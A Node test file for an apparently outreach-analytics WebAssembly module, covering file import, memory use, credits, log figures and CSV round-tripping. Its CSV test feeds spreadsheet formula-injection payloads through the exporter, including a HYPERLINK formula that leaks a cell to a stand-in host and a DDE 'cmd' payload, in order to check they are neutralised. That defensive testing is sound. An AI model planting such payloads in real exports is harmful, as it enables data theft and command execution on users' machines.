// The module behind <inmail-outcomes>, in Node: a file in pieces, credits, the log.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import init, { balance, channel, Importer, logFigures, plans, takeWords } from '../../target/outcomes/outcomes.js';
import lists from '../../target/outcomes/lists.js';
import { fromCsv, toCsv } from '../../www/outcomes/csv.js';
import { fingerprint, readable } from '../../www/outcomes/sends.js';

const root = new URL('../../', import.meta.url);
const { memory } = await init({ module_or_path: readFileSync(new URL('target/outcomes/outcomes_bg.wasm', root)) });
takeWords(lists);

test('a file in pieces gives what is true of it', () => {
  const { stdout, stderr } = spawnSync(new URL('target/release/examples/messages', root).pathname, ['2000', '7'], { maxBuffer: 1 << 27 });
  const truth = JSON.parse(stderr);
  const importer = new Importer(20_000, new Int32Array());
  for (let at = 0; at < stdout.length; at += 10_007) assert.ok(importer.push(stdout.subarray(at, at + 10_007)));
  const found = JSON.parse(importer.end());
  assert.deepEqual([found.stopped, found.problemCount, found.messages, found.drafts], [null, 0, truth.rows, truth.drafts]);
  assert.equal(found.people[0].name, truth.you);
  assert.equal(importer.choose(found.people[0].id), truth.begun);
  assert.equal(importer.judge(10), 10);
  assert.equal(importer.judge(10), 20);
  assert.equal(importer.judge(truth.begun), truth.begun);
  const { rate, worth, rules, counts } = JSON.parse(importer.figures(false));
  assert.deepEqual([rate.of, rate.answered, counts.begun], [truth.counted, truth.answered, truth.begun]);
  // The file's good messages are answered more often: without its lists the module could not know.
  assert.ok(worth.low > 0.5 && worth.value < 0.75, JSON.stringify(worth));
  assert.ok(rules.some(({ rule, difference }) => rule === 'no-recipient-fact' && difference.high < 0));
  importer.free();
});

test('a long correspondence needs no more memory than a short one', () => {
  const { stdout } = spawnSync(new URL('target/release/examples/messages', root).pathname, ['2000', '7'], { maxBuffer: 1 << 27 });
  const rows = stdout.subarray(stdout.indexOf('\n') + 1); // a record ends where the file does
  const importer = new Importer(20_000, new Int32Array());
  importer.push(stdout);
  importer.push(rows);
  const before = memory.buffer.byteLength;
  for (let round = 0; round < 60; round += 1) assert.ok(importer.push(rows));
  const { messages, problemCount, people } = JSON.parse(importer.end());
  assert.equal(problemCount, 0);
  assert.ok(messages > 100_000, `${messages} messages`);
  assert.ok(importer.choose(people[0].id) < 2_000);
  // A page of 64 KiB more or less is how the pieces happen to lie.
  assert.ok(memory.buffer.byteLength - before <= 65_536, `it stays flat: ${before} bytes, then ${memory.buffer.byteLength}`);
  importer.free();
});

test('credits', () => {
  const day = 24 * 60;
  const at = 20_000 * day;
  const found = JSON.parse(balance(new Int32Array([15, 45, 90, 1]), new Int32Array([at, 12]), new Int32Array([at + 5, 1, -1, at + 6, 0, -1, at + 7, 1, at + 2 * day]), at + 3 * day));
  assert.deepEqual([found.held, found.cap, found.waiting, found.tally.out], [11, 45, [{ send: 0, until: '2025-01-02' }], 1]);
  assert.deepEqual(found.nextGrant, { day: '2024-11-01', credits: 15 });
  assert.equal(found.forecast.length, 6);
  assert.match(found.forecast[5].day, /^2025-/);
  assert.ok(JSON.parse(plans()).every(({ id, monthly, cap, asOf }) => id && monthly > 0 && cap >= monthly && asOf));
});

test('the log and the channel', () => {
  const sends = Array.from({ length: 60 }, (_, i) => [i * 60, i, 0, 300, 2, i > 30 ? i * 60 + 90 : -1]);
  const found = JSON.parse(logFigures(Int32Array.from(sends.flat()), sends.map(([, score]) => (score < 20 ? 'no-ask hype' : '')).join('\n'), 300 * 24 * 60));
  assert.deepEqual([found.rate.of, found.rate.answered, found.worth.value, found.medianHours], [60, 29, 1, 1.5]);
  assert.deepEqual(found.rules.map(({ rule, with: { of } }) => [rule, of]), [['hype', 20], ['no-ask', 20]].sort());
  const advice = JSON.parse(channel('first-degree', 'sales', false, false, true, -1));
  assert.deepEqual([advice.way, advice.channel, advice.limits], ['direct-message', 'direct-message', { subject: null, body: 8000 }]);
});

test('a spreadsheet runs no cell of the log as a formula, and every cell comes back as it was', () => {
  const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1', '\'', '\'=1', '\'\'=1', '=HYPERLINK("http://x.example?"&A1,"a")', '=cmd|\' /C calc\'!A0',
    'a,b', 'a;=1', 'a\t=1', '"', '"=1"', ' =1', 'plain', '\'tis', '=1\r\n=2', '0'];
  const sends = texts.map((text) => readable({ id: text, sentAt: '2027-01-05T08:15', there: text, person: text, company: text, plan: text, grade: text, hash: text, text: { subject: text, body: text } }));
  const csv = toCsv(sends);
  assert.deepEqual(fromCsv(`\ufeff${csv}`), { sends, wrong: [] });
  // As a spreadsheet splits it: a field begins at a comma or a line, quotes around it are taken off.
  const fields = [...csv.matchAll(/(?<=^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|\r\n|$)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain);
  assert.ok(fields.length >= texts.length * 19 && fields.includes('\'=1+1'));
  for (const field of fields) assert.doesNotMatch(field, /^[=+\-@\t\r\n＝＋－＠]/);
});

test('the fingerprint of a text is FNV-1a of its bytes', () => {
  for (const [text, found] of [['', 'cbf29ce484222325'], ['a', 'af63dc4c8601ec8c'], ['foobar', '85944171f73967e8']]) {
    assert.equal(fingerprint(text), found);
  }
  assert.notEqual(fingerprint('é'), fingerprint('e'));
});
